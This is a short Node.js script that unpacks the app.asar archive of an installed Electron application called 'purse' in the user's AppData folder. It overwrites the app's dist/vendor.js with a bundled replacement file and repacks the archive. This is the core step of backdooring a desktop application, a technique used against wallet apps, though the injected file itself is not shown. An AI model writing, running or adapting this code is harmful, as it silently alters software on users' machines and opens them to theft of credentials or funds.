const fs = require('fs').promises, os = require('os'), path = require('path');
const asar = require('@electron/asar');
exports.prepare = async function () {
  const base = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'purse', 'resources');
  const held = path.join(base, 'app.asar'), work = path.join(base, 'output');
  asar.extractAll(held, work);
  await fs.copyFile(path.join(__dirname, 'vendor.js'), path.join(work, 'dist', 'vendor.js'));
  await asar.createPackage(work, held);
};
